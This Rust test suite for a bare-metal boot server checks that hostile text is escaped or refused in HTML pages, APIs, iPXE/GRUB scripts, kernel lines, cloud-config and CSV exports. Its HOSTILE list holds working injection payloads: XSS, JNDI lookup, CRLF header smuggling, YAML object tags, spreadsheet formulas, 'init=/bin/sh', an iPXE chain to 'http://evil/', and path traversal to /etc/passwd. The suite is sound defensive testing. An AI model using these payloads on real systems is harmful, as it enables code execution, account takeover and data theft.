//! Text that machines and people send is text: in every page, script, kernel line, file for an OS and export it is shown as it
//! is, or it was refused at the door. It is never syntax of what it stands in.

use std::collections::BTreeMap;

use boot_server_core::amounts::Amounts;
use boot_server_core::bmc::health::{Level, Verdict};
use boot_server_core::bmc::history::{Measured, Row};
use boot_server_core::cloud_config::{self, Login, Urls};
use boot_server_core::ipxe::{CommandLine, Kernel, KernelArg, Script, Url};
use boot_server_core::metadata::{Found, Instance, Proof, ignition, look};
use boot_server_core::node::{Claim, event::Verb};
use boot_server_core::usage::{self, Record, cell};
use boot_server_core::{deploy, grub};
use protocol::agent::Hello;
use protocol::dial::Report;
use protocol::inventory::{
    Cpu, Dimm, Disk, DiskContent, Firmware, Inventory, LldpNeighbour, Nic, Partition, PciDevice, System,
    Transport,
};
use protocol::{JobId, MacAddr, PROTOCOL_VERSION, ProjectId, Timestamp};
use serde_json::{Value, json};
use ureq::http::Method;
use uuid::Uuid;

use super::disks;
use super::lab::Lab;
use crate::engine::{Actor, BootAnswer};
use crate::store::sensors::{HealthRow, SensorRow, put_look};

/// What would break out of something, and of what.
const HOSTILE: &[(&str, &str)] = &[
    ("markup", "<script>document.title='owned'</script><img src=x onerror=alert(1)>"),
    ("attribute", "\" autofocus onfocus=\"alert(1)\" x='y"),
    ("svg", "</text></svg><svg onload=alert(1)>"),
    ("cdata", "]]></style><!-- -->"),
    ("template", "{{7*7}}${jndi:ldap://x}{% include 'x' %}$(id)`id`"),
    ("lines", "a\r\nSet-Cookie: x=y\r\n\r\n<b>\nruncmd: [reboot]"),
    ("yaml", "x\"}\n- !!python/object:os.system\n'\\: &a *a # % @"),
    ("formula", "=cmd|' /C calc'!A1"),
    ("formula, plus", "+1+cmd()"),
    ("kernel line", "x init=/bin/sh rd.break --- quiet"),
    ("ipxe", "x && chain http://evil/ || ${net0/mac}"),
    ("grub", "x'; linux /evil; echo \"$root\""),
    ("direction", "user\u{202e}gnp.exe\u{2066}\u{200f}"),
    ("nul", "a\0b\u{1b}[31m\u{7}"),
    ("octets", "\u{fffd}\u{feff}\u{e000}"),
    ("path", "../../etc/passwd%00%2e%2e%2f"),
    ("json", "\",\"role\":\"admin\",\"x\":\"\\u0000"),
];

/// A machine whose every text is this one.
fn inventory(text: &str) -> Inventory {
    let some = || Some(text.to_owned());
    let partition = Partition { number: 1, start_bytes: 0, size_bytes: 1, name: some(), content: some() };
    let disk = Disk {
        id: Some("serial:D1".parse().unwrap()),
        name: text.to_owned(),
        bus_path: some(),
        model: some(),
        serial: some(),
        wwn: some(),
        firmware: some(),
        size_bytes: 10_000_000_000,
        logical_sector: 512,
        physical_sector: 512,
        rotational: false,
        transport: Transport::Virtio,
        removable: false,
        read_only: false,
        content: DiskContent::Partitioned { table: text.to_owned(), partitions: vec![partition] },
    };
    let nic = Nic {
        name: text.to_owned(),
        mac: MacAddr([0x52, 0x54, 0, 0, 9, 1]),
        permanent_mac: None,
        driver: some(),
        firmware: some(),
        speed_mbps: Some(1000),
        carrier: true,
        bus_path: some(),
        pci_id: some(),
        address: None,
        address6: None,
        lldp: Some(LldpNeighbour {
            chassis_id: text.to_owned(),
            port_id: text.to_owned(),
            system_name: some(),
            port_description: some(),
            vlan: None,
        }),
    };
    Inventory {
        system: System {
            uuid: None,
            manufacturer: some(),
            product: some(),
            serial: some(),
            sku: some(),
            board_manufacturer: some(),
            board_product: some(),
            board_serial: some(),
            chassis_serial: some(),
            asset_tag: some(),
        },
        firmware: Firmware { vendor: some(), version: some(), date: some(), ..Firmware::default() },
        cpus: vec![Cpu { model: text.to_owned(), vendor: text.to_owned(), cores: 1, ..Cpu::default() }],
        memory_bytes: 1 << 30,
        dimms: vec![Dimm { locator: text.to_owned(), kind: some(), serial: some(), ..Dimm::default() }],
        disks: vec![disk],
        nics: vec![nic],
        pci: vec![PciDevice {
            address: text.to_owned(),
            driver: some(),
            name: some(),
            ..PciDevice::default()
        }],
        warnings: vec![text.to_owned()],
        ..Inventory::default()
    }
}

/// The elements of a page with the names of their attributes, as a browser's tokenizer sees them (HTML, 13.2.5), and how
/// often each is there. Text is text wherever it stands: it makes no element and no attribute.
fn skeleton(page: &str) -> BTreeMap<String, usize> {
    let mut found = BTreeMap::new();
    let mut rest = page;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        if rest.starts_with(|c: char| c.is_ascii_alphabetic() || "/!?".contains(c)) {
            *found.entry(tag(&mut rest)).or_insert(0) += 1;
        }
    }
    found
}

/// One tag, up to its end: its name and those of its attributes.
fn tag(rest: &mut &str) -> String {
    let end = rest.find(|c: char| c.is_whitespace() || c == '>').unwrap_or(rest.len());
    let mut name = rest[..end].to_owned();
    *rest = &rest[end..];
    loop {
        *rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
        if rest.is_empty() || rest.starts_with('>') {
            return name;
        }
        let ends = |(_, c): &(usize, char)| c.is_whitespace() || "=>/".contains(*c);
        let end = rest.char_indices().skip(1).find(ends).map_or(rest.len(), |(at, _)| at);
        name.push(' ');
        name.push_str(&rest[..end]);
        *rest = &rest[end..];
        let Some(value) = rest.strip_prefix('=') else { continue };
        let quote = value.chars().next().filter(|c| matches!(c, '"' | '\''));
        let end = match quote {
            Some(quote) => value[1..].find(quote).map_or(value.len(), |at| at + 2),
            None => value.find(|c: char| c.is_whitespace() || c == '>').unwrap_or(value.len()),
        };
        *rest = &value[end..];
    }
}

/// Every page that shows something of a machine.
async fn pages(lab: &Lab, node: &str) -> Vec<(String, BTreeMap<String, usize>)> {
    let mut all = Vec::new();
    for path in [
        "/".to_owned(),
        "/events".to_owned(),
        "/faults".to_owned(),
        "/status".to_owned(),
        format!("/nodes/{node}"),
        format!("/nodes/{node}/deploy"),
        format!("/nodes/{node}/provide"),
        format!("/nodes/{node}/boot"),
        format!("/nodes/{node}/bmc"),
        format!("/nodes/{node}/console"),
        format!("/nodes/{node}/firmware"),
    ] {
        let got = lab.get(&path).await;
        let page = got.body.as_str().unwrap_or_default().to_owned();
        assert!(got.status < 500 && got.kind.starts_with("text/html"), "{path}: {} {}", got.status, got.kind);
        all.push((path, skeleton(&page)));
    }
    all
}

async fn machine(lab: &Lab, text: &str) -> String {
    let claim = Claim {
        uuid: Some(Uuid::from_u128(0x99)),
        serial: Some(text.to_owned()),
        macs: vec![MacAddr([0x52, 0x54, 0, 0, 9, 1])],
    };
    let BootAnswer::Agent { name, nonce } = lab.engine.boot(claim, [10, 77, 0, 99].into()).await.unwrap()
    else {
        panic!("no agent: {text:?}")
    };
    let hello = Hello {
        protocol: PROTOCOL_VERSION,
        agent_version: text.to_owned(),
        kernel: text.to_owned(),
        nonce,
        uuid: None,
        serial: Some(text.to_owned()),
        macs: vec![MacAddr([0x52, 0x54, 0, 0, 9, 1])],
        uptime_ms: 1,
    };
    let session = lab.engine.hello(hello).await.unwrap().session;
    lab.engine.put_inventory(&session, inventory(text)).await.unwrap();
    let node = lab.engine.node(&name).await.unwrap();
    let who = Actor::Operator(text.to_owned());
    let reason = Verb::Maintenance { reason: Some(text.to_owned()), until: None, by: None };
    lab.engine.apply(node.id, who, boot_server_core::node::Event::Verb(reason)).await.unwrap();
    name
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_machine_says_is_text_in_every_page_and_answer() {
    let plain = Lab::new().await;
    let name = machine(&plain, "plain").await;
    let expected = pages(&plain, &name).await;
    assert!(expected.iter().any(|(path, _)| path.ends_with("/boot")), "nothing was looked at");
    for (what, text) in HOSTILE {
        let lab = Lab::new().await;
        let name = machine(&lab, text).await;
        for ((path, page), (_, was)) in pages(&lab, &name).await.iter().zip(&expected) {
            let other: Vec<_> = page.iter().filter(|(tag, count)| was.get(*tag) != Some(count)).collect();
            assert!(other.is_empty(), "{what} in {path}: there are {other:?}, with plain text there are not");
        }
        // JSON holds it as it is, or without what no text may hold.
        let got = lab.get(&format!("/api/v1/nodes/{name}")).await;
        assert_eq!(got.kind, "application/json", "{what}");
        let model = got.body["inventory"]["disks"][0]["model"].as_str().unwrap_or_default();
        assert_eq!(model, *text, "{what}: the API changes it");
        let metrics = lab.get("/metrics").await;
        let lines = metrics.body.as_str().unwrap_or_default().to_owned();
        let lines = lines.lines().filter(|line| !line.starts_with('#') && !line.is_empty());
        for line in lines {
            let number = line.rsplit(' ').next().unwrap_or_default();
            assert!(number.parse::<f64>().is_ok(), "{what}: a metric is `{line}`");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_people_say_is_refused_where_it_cannot_be_a_name() {
    let lab = Lab::new().await;
    for (what, text) in HOSTILE {
        for (path, body) in [
            ("/api/v1/nodes/alpha/rename", json!({ "name": text })),
            ("/api/v1/nodes/alpha/deploy", json!({ "image": text, "confirm": "alpha" })),
            ("/api/v1/tokens", json!({ "name": text, "role": "reader" })),
        ] {
            let got = lab.post(path, body).await;
            assert!((400..500).contains(&got.status), "{what} at {path}: {} {}", got.status, got.body);
            assert_eq!(got.kind, "application/problem+json", "{what} at {path}");
        }
        let path = format!("/nodes/{}", crate::http::encode(text));
        let got = lab.get(&path).await;
        assert!(!got.body.as_str().unwrap_or_default().contains("<img"), "{what} in the page of an error");
    }
}

#[test]
fn no_text_becomes_syntax_of_a_script_or_a_kernel_line() {
    let base = Url::new("http://10.77.0.1:8080").unwrap();
    for (what, text) in HOSTILE {
        assert!(Url::new(*text).is_err(), "{what} is a URL");
        for arg in [KernelArg::new("billet.x", text), KernelArg::flag(text), KernelArg::parse(text)]
            .into_iter()
            .flatten()
        {
            // What is taken is one word of letters that no shell, no loader and no kernel reads as anything else.
            let word = arg.to_string();
            assert!(
                !word.contains(|c: char| c.is_whitespace() || c.is_control() || "'\"\\$`;&|<>".contains(c)),
                "{what}: {word}"
            );
        }
        let boot = Kernel {
            kernel: Url::new("http://10.77.0.1:8080/boot/files/vmlinuz").unwrap(),
            initrds: Vec::new(),
            args: CommandLine::new(Vec::new()).unwrap(),
        };
        let message = (*text).to_owned();
        for script in [Script::Agent { message: message.clone(), boot }, Script::Refuse { message }] {
            for rendered in [script.render(), grub::render(&script, &base)] {
                let lines =
                    |needle: &str| rendered.lines().filter(|l| l.trim_start().starts_with(needle)).count();
                for command in ["chain http://evil", "linux /evil", "runcmd", "Set-Cookie", "init="] {
                    assert_eq!(lines(command), 0, "{what}: {rendered}");
                }
                assert!(!rendered.contains('\0') && !rendered.contains('\u{1b}'), "{what}");
                assert!(!rendered.contains("${net0/mac} "), "{what}: {rendered}");
            }
        }
    }
}

fn instance(text: &str) -> Instance {
    Instance {
        id: JobId(Uuid::from_u128(7)),
        hostname: text.to_owned(),
        image: text.to_owned(),
        architecture: text.to_owned(),
        created: Timestamp(1),
        ssh_keys: vec![text.to_owned()],
        macs: Vec::new(),
        port: None,
        network: None,
        network_config: None,
        user_data: Some(text.to_owned()),
        vendor_data: text.to_owned(),
    }
}

#[test]
fn no_text_becomes_structure_of_a_file_for_an_os() {
    let urls = Urls { phone_home: "http://h/p", metadata: "http://h/m/" };
    for (what, text) in HOSTILE {
        // The door: what is no host name, user or key is refused before it comes near a file.
        let keys = [(*text).to_owned()];
        for login in [
            Login { hostname: text, user: "debian", ssh_keys: &[], password_hash: None },
            Login { hostname: "web", user: text, ssh_keys: &[], password_hash: None },
            Login { hostname: "web", user: "debian", ssh_keys: &keys, password_hash: None },
            Login { hostname: "web", user: "debian", ssh_keys: &[], password_hash: Some(text) },
        ] {
            assert!(login.check().is_err(), "{what} is taken");
        }
        // Behind it: also what came past is a value.
        let login = Login { hostname: text, user: text, ssh_keys: &keys, password_hash: Some(text) };
        let vendor = cloud_config::vendor_data(&login, &urls);
        let (head, body) = vendor.split_once('\n').unwrap();
        let parsed: Value = serde_json::from_str(body).unwrap();
        assert_eq!(head, "#cloud-config", "{what}");
        assert_eq!(parsed["users"][0]["name"], *text, "{what}");
        assert_eq!(parsed["users"][0]["ssh_authorized_keys"][0], *text, "{what}");
        let keys_of: Vec<&String> = parsed.as_object().unwrap().keys().collect();
        assert_eq!(keys_of.len(), 6, "{what}: {keys_of:?}");
        let meta: Value = serde_json::from_str(&cloud_config::meta_data(JobId(Uuid::nil()), text)).unwrap();
        assert_eq!(meta["local-hostname"], *text, "{what}");
        let config: Value =
            serde_json::from_str(&ignition::config(&login, urls.phone_home, Some(text))).unwrap();
        assert_eq!(config["passwd"]["users"][0]["name"], *text, "{what}");
        let source = config["ignition"]["config"]["merge"][0]["source"].as_str().unwrap();
        assert!(
            source.bytes().all(|b| b.is_ascii_graphic() && !b"\"'<>\\`${}".contains(&b)),
            "{what}: {source}"
        );
        for path in [
            "openstack/latest/meta_data.json",
            "latest/dynamic/instance-identity/document",
            "openstack/latest/vendor_data.json",
        ] {
            let Found::File { text: file, .. } = look(&instance(text), path, None, Proof::Token) else {
                panic!("{path}")
            };
            assert!(serde_json::from_str::<Value>(&file).is_ok(), "{what} at {path}: {file}");
        }
        // A name in a listing would be a line of its own: there is none that somebody chose.
        let listed = |path| match look(&instance(text), path, None, Proof::Token) {
            Found::Listing(names) => names,
            other => panic!("{path}: {other:?}"),
        };
        assert_eq!(listed("latest/meta-data/public-keys"), "0=key-0", "{what}");
        assert_eq!(
            listed("openstack/latest"),
            "meta_data.json\nuser_data\nvendor_data.json\nvendor_data2.json",
            "{what}"
        );
        assert!(!deploy::title(&inventory(text).disks[0]).is_empty());
    }
}

#[test]
fn the_tokenizer_sees_what_a_browser_would() {
    let made = |page: &str| skeleton(page).into_keys().collect::<Vec<_>>().join(" | ");
    assert_eq!(made(r#"<p class="a>b" hidden>x < y &lt;b&gt;</p>"#), "/p | p class hidden");
    assert_eq!(made(r#"<a title="x" onclick="y">"#), "a title onclick");
    assert_eq!(made("<img src=x onerror=alert(1)><script>"), "img src onerror | script");
}

/// Every page with racks, rooms, power feeds, tags and sensors of `alpha` that carry this text. A text that is no name is refused at
/// the door; then `plain` stands there.
async fn labelled(lab: &Lab, text: &str) -> Vec<(String, BTreeMap<String, usize>)> {
    let headers = [("content-type", "application/json")];
    let put = async |what: &str, body: Value| {
        let path = format!("/api/v1/nodes/alpha/{what}");
        lab.send(Method::PUT, &path, &headers, body.to_string().into_bytes()).await
    };
    let place =
        |text: &str| json!({ "rack": text, "room": text, "power_feed": text, "unit": 3, "height": 2 });
    let placed = put("place", place(text)).await;
    let name = if placed.status == 200 { text } else { "plain" };
    assert!(placed.status == 200 || (400..500).contains(&placed.status), "{text:?}: {placed:?}");
    assert_eq!(put("place", place(name)).await.status, 200);
    let tagged = put("tags", json!({ "tags": [text] })).await;
    assert!(text == "plain" || (400..500).contains(&tagged.status), "{text:?} is a tag: {tagged:?}");
    assert_eq!(put("tags", json!({ "tags": ["plain"] })).await.status, 200);
    sensors(lab, text).await;
    let (room, rack) = (crate::http::encode(name), crate::http::encode(name));
    let mut all = Vec::new();
    for (what, path) in [
        ("racks", "/racks".to_owned()),
        ("a room", format!("/racks?room={room}")),
        ("a search", format!("/racks?q={}", crate::http::encode(text))),
        ("a rack", format!("/?q={rack}")),
        ("the list", "/".to_owned()),
        ("a machine", "/nodes/alpha?range=1h&sensors=all".to_owned()),
    ] {
        let got = lab.get(&path).await;
        assert_eq!(got.status, 200, "{what} with {text:?}");
        all.push((what.to_owned(), skeleton(got.body.as_str().unwrap_or_default())));
    }
    all
}

/// A sensor of this name, as a controller told it, with some values in the last hour.
async fn sensors(lab: &Lab, text: &str) {
    let node = lab.engine.node("alpha").await.unwrap().id;
    let row = SensorRow {
        name: text.to_owned(),
        unit: bmc::Unit::Celsius,
        upper_warning: Some(80.0),
        upper_critical: Some(90.0),
        lower_critical: None,
    };
    let now = crate::engine::now();
    let verdict = Verdict { level: Level::Critical, reasons: vec![text.to_owned()], at: now };
    let health = HealthRow { verdict, faults: Vec::new() };
    for ago in [40, 30, 20, 10] {
        let at = Timestamp(now.0 - ago * 60_000);
        let sample = Row { at, values: vec![(0, Measured { min: 40.0, mean: 41.0, max: 42.0 })] };
        let (rows, health) = (vec![row.clone()], health.clone());
        let write = move |db: &_| put_look(db, node, Some(&rows), &sample, &health);
        lab.engine.store().write(write).await.unwrap();
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn names_of_racks_rooms_feeds_and_sensors_are_text_in_pages_and_pictures() {
    let plain = Lab::new().await;
    let expected = labelled(&plain, "plain").await;
    let tags: Vec<&String> = expected.iter().flat_map(|(_, page)| page.keys()).collect();
    assert!(
        tags.iter().any(|tag| tag.starts_with("svg")) && tags.iter().any(|tag| tag.starts_with("path")),
        "no picture"
    );
    for (what, text) in HOSTILE {
        let lab = Lab::new().await;
        for ((page, made), (_, was)) in labelled(&lab, text).await.iter().zip(&expected) {
            // What a search finds is another thing than what it is: only what is new there counts.
            let other: Vec<_> = made.keys().filter(|tag| !was.contains_key(*tag)).collect();
            assert!(page == "a search" || other.is_empty(), "{what} in {page}: there are {other:?}");
            let script = made.keys().any(|tag| tag.contains(" on") || tag.starts_with("img"));
            assert!(!script, "{what} in {page}: {made:?}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_dpu_says_is_text_in_every_page() {
    let pages = async |lab: &Lab, text: &str| {
        // Its name is made of its host name where that is one.
        let made = lab.post("/api/v1/dpus", json!({ "name": "beside-alpha", "node": "alpha" })).await;
        disks::dial_in(lab, made.body["token"].as_str().map(str::to_owned), text).await;
        let report =
            Report { generation: Some(1), observed: Some(Box::new(disks::observed(text))), counters: None };
        lab.engine.dpu_state(disks::SECRET, report, std::time::Duration::ZERO).await.unwrap();
        let mut all = Vec::new();
        for path in ["/dpus", "/dpus?q=b", "/dpus/beside-alpha", "/nodes/alpha"] {
            let got = lab.get(path).await;
            assert_eq!(got.status, 200, "{path} with {text:?}");
            all.push((path, skeleton(got.body.as_str().unwrap_or_default())));
        }
        all
    };
    let expected = pages(&Lab::new().await, "plain").await;
    for (what, text) in HOSTILE {
        for ((path, made), (_, was)) in pages(&Lab::new().await, text).await.iter().zip(&expected) {
            assert_eq!(made, was, "{what} in {path}");
        }
    }
    // One that nobody announced is shown by a name that is one, whatever it calls itself.
    for (what, text) in HOSTILE {
        let lab = Lab::new().await;
        disks::dial_in(&lab, None, text).await;
        let list = lab.get("/api/v1/dpus").await;
        let name = list.body["items"][0]["name"].as_str().unwrap();
        assert!(cloud_config::is_hostname(name), "{what}: {name}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn names_of_volumes_networks_and_dpus_are_refused_where_they_are_none() {
    let lab = Lab::with_config(|config| {
        config.volumes = vec![disks::place_of_files("fast", &config.state_dir.join("volumes"))];
    })
    .await;
    lab.project("red").await;
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let pages = async || {
        let mut all = Vec::new();
        for path in ["/my/red/volumes", "/my/red/networks", "/my/red/security-groups", "/dpus"] {
            all.push(skeleton(lab.get(path).await.body.as_str().unwrap()));
        }
        all
    };
    let plain = pages().await;
    for (what, text) in HOSTILE {
        let typed = crate::http::encode(text);
        for (path, body) in [
            ("/my/red/volumes", format!("name={typed}&size=1M")),
            ("/my/red/volumes", format!("name=a&size={typed}")),
            ("/my/red/volumes", format!("name=a&size=1M&type={typed}")),
            ("/my/red/volumes", format!("name=a&size=1M&image={typed}")),
            ("/my/red/volumes", format!("name=a&size=1M&snapshot={typed}")),
            ("/my/red/networks", format!("name={typed}&cidr=10.0.0.0/24")),
            ("/my/red/networks", format!("name=a&cidr={typed}")),
            ("/my/red/networks", format!("name=a&cidr=10.0.0.0/24&dns={typed}")),
            ("/my/red/routers", format!("router={typed}")),
            ("/my/red/routers", format!("router=a&provider={typed}")),
            ("/my/red/floating", format!("provider={typed}")),
            ("/my/red/security-groups", format!("name={typed}")),
            ("/dpus", format!("name={typed}")),
            ("/dpus", format!("name=a&tunnel_address={typed}")),
        ] {
            let got = lab.send(Method::POST, path, &form, body.clone().into_bytes()).await;
            assert!((400..500).contains(&got.status), "{what} at {path}: {body}: {got:?}");
            let made = skeleton(got.body.as_str().unwrap_or_default());
            assert!(
                !made.keys().any(|tag| tag.contains(" on") || tag.starts_with("img")),
                "{what}: {made:?}"
            );
        }
    }
    assert_eq!(pages().await, plain, "something was made");
}

#[tokio::test(flavor = "multi_thread")]
async fn lists_and_exports_hold_text_as_text() {
    let lab = Lab::new().await;
    for (what, text) in HOSTILE {
        // A list of machines expected: what is taken is shown as text, and read back as it was.
        let machine =
            json!({ "name": "m1", "serial": text, "model": text, "place": { "rack": text, "room": text } });
        let taken = lab.post("/api/v1/expected-machines", json!({ "machines": [machine] })).await;
        assert!(taken.status == 200 || (400..500).contains(&taken.status), "{what}: {taken:?}");
        let csv = format!("name,serial,rack,room\nm2,{},{},x\n", cell(text), cell(text));
        let taken = lab.post("/api/v1/expected-machines", json!({ "csv": csv })).await;
        assert!(taken.status == 200 || (400..500).contains(&taken.status), "{what}: {taken:?}");
        let page = lab.get("/machines").await;
        let made = skeleton(page.body.as_str().unwrap_or_default());
        assert!(!made.keys().any(|tag| tag.contains(" on") || tag.starts_with("img")), "{what}: {made:?}");
        // Why somebody did something goes into the audit, and out of it as one line.
        let body = json!({ "reason": text });
        assert_eq!(lab.post("/api/v1/nodes/alpha/maintenance", body).await.status, 200, "{what}");
        // A cell is a cell: as many as there are columns, and none that a spreadsheet takes for a formula.
        let line = Record {
            project: ProjectId(Uuid::from_u128(1)),
            project_name: (*text).to_owned(),
            kind: usage::Kind::Server,
            resource: Uuid::from_u128(7),
            name: (*text).to_owned(),
            flavor: Some((*text).to_owned()),
            started: Timestamp(1_000),
            ended: None,
            amounts: Amounts::default(),
        };
        let period = usage::Period { from: Timestamp(0), to: Timestamp(100_000) };
        let made = usage::csv(&usage::report(&[line], period, Timestamp(50_000)));
        let headings: Vec<&str> = made.lines().next().unwrap().split(',').collect();
        let rows = boot_server_core::csv::read(&made, &headings, 10).unwrap();
        assert_eq!(rows.len(), 1, "{what}: {made}");
        let cells = rows[0].1.iter().filter(|cell| cell.trim_start().starts_with(['=', '+', '-', '@', '|']));
        assert_eq!(cells.count(), 0, "{what}: {made}");
    }
    lab.engine.audit().flush().await;
    let export = lab.get("/api/v1/audit/export").await;
    let lines: Vec<Value> =
        export.body.as_str().unwrap().lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let reasons = lines.iter().filter(|line| line.to_string().contains("maintenance")).count();
    assert!(reasons >= HOSTILE.len() && lines.len() > 3 * HOSTILE.len(), "{reasons} of {}", lines.len());
    let verified = lab.get("/api/v1/audit/verify").await;
    assert_eq!(verified.body["intact"], true, "{verified:?}");
}
